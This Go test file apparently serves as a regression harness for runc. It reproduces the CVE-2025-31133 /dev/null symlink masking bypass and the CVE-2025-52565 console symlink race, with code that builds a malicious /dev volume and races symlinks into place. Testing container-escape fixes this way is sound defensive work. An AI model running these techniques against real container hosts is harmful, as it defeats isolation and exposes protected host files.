package attacks

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/opencontainers/runtime-spec/specs-go"
	"github.com/stretchr/testify/require"
	"golang.org/x/sys/unix"
)

// nullIsLink: CVE-2025-31133.
//
// A file is hidden by binding /dev/null on it: the container's own, since the host's is out of reach by then. If the container's /dev/null is a link to
// something else, then that is bound, at a second place, and writable: /proc/sys/kernel/core_pattern on /proc/kcore, for example. And
// if it was missing, runc hid nothing and went on.
//
// The device is opened without following a link, its type and its numbers are compared, and what is bound is that descriptor
// (rootfs, null; isDevice). Let null be opened by following links, without the comparison, and the attack succeeds.
func nullIsLink(a *arena) string {
	bundle, volume := a.masking()
	require.NoError(a.t, os.Remove(volume+"/null"))
	for _, target := range []string{"/target", "/missing", "zero"} {
		require.NoError(a.t, os.Symlink(target, volume+"/null"))
		r := a.runtime.RunBundle(a.t, "victim", bundle)
		if _, loot, ran := strings.Cut(r.Stdout, "masked:"); ran {
			return "the container runs, and sees: " + loot
		}
		require.Equal(a.t, 1, r.Code, r)
		require.Contains(a.t, r.Stderr, "/dev/null")
		require.NoError(a.t, os.Remove(volume+"/null"))
	}
	return ""
}

// nullBecomesLink is the same as a race.
func nullBecomesLink(a *arena) string {
	bundle, volume := a.masking()
	require.NoError(a.t, os.Symlink("/target", volume+"/link"))
	return a.racing(volume+"/null", volume+"/link", func() (bool, string) {
		r := a.runtime.Run(a.t, "run", "--bundle", bundle, "victim")
		_, loot, ran := strings.Cut(r.Stdout, "masked:")
		return ran, strings.TrimSpace(loot)
	})
}

// masking is a bundle whose /dev is a volume, and whose program shows what is left of a file that is to be hidden.
func (a *arena) masking() (bundle, volume string) {
	volume = a.volumeDev()
	bundle, root := a.bundle("echo masked:$(cat /masked)", func(s *specs.Spec) {
		s.Mounts = append(without(s.Mounts, "/dev"), bind(volume, "/dev"))
		s.Linux.MaskedPaths = []string{"/masked"}
	})
	require.NoError(a.t, os.WriteFile(root+"/masked", []byte("what was to be hidden"), 0o644))
	require.NoError(a.t, os.WriteFile(root+"/target", []byte("what the attacker wants"), 0o644))
	return bundle, volume
}

// volumeDev is a volume to be mounted on /dev, with what a container expects there.
func (a *arena) volumeDev() string {
	dir := a.t.TempDir()
	for name, minor := range map[string]uint32{"null": 3, "zero": 5, "full": 7, "random": 8, "urandom": 9} {
		mknod(a.t, filepath.Join(dir, name), 1, minor)
	}
	mknod(a.t, filepath.Join(dir, "tty"), 5, 0)
	for _, name := range []string{"pts", "shm", "mqueue"} {
		require.NoError(a.t, os.Mkdir(filepath.Join(dir, name), 0o755))
	}
	return dir
}

func mknod(t *testing.T, path string, major, minor uint32) {
	t.Helper()
	require.NoError(t, unix.Mknod(path, unix.S_IFCHR|0o666, int(unix.Mkdev(major, minor))))
	require.NoError(t, os.Chmod(path, 0o666))
}

// consoleBecomesLink: CVE-2025-52565.
//
// The container's terminal is bound on /dev/console, before the paths in /proc are protected. If the console is a link by then, the terminal covers the file
// that it leads to; if the terminal's own name, /dev/pts/0, has become one, then any other file is bound on /dev/console, and stays writable.
//
// Here the terminal is a descriptor, of which no name is asked, and a console that is a link is refused (rootfs/console.go). Let makeFile follow links, and the
// attack succeeds.
func consoleBecomesLink(a *arena) string {
	volume := a.volumeDev()
	require.NoError(a.t, os.WriteFile(volume+"/console", nil, 0o644))
	require.NoError(a.t, os.Symlink("/target", volume+"/link"))
	bundle, root := a.bundle("[ -f /target ] && echo 'all is well' || echo covered", func(s *specs.Spec) {
		s.Process.Terminal = true
		keep := specs.Mount{Destination: "/dev/pts", Type: "devpts", Source: "devpts", Options: []string{"newinstance", "ptmxmode=0666", "mode=0620"}}
		s.Mounts = append(without(s.Mounts, "/dev"), bind(volume, "/dev"), keep)
	})
	require.NoError(a.t, os.Symlink("pts/ptmx", volume+"/ptmx"))
	require.NoError(a.t, os.WriteFile(root+"/target", []byte("what the attacker wants"), 0o644))
	return a.racing(volume+"/console", volume+"/link", func() (bool, string) {
		c := a.runtime.Cmd("run", "--bundle", bundle, "victim")
		c.Stdin, c.Timeout = nil, 10*time.Second
		s := c.Pty(a.t)
		code := s.Wait()
		if strings.Contains(s.Output(), "covered") {
			return true, "the terminal was bound on /target"
		}
		return code == 0 && strings.Contains(s.Output(), "all is well"), ""
	})
}
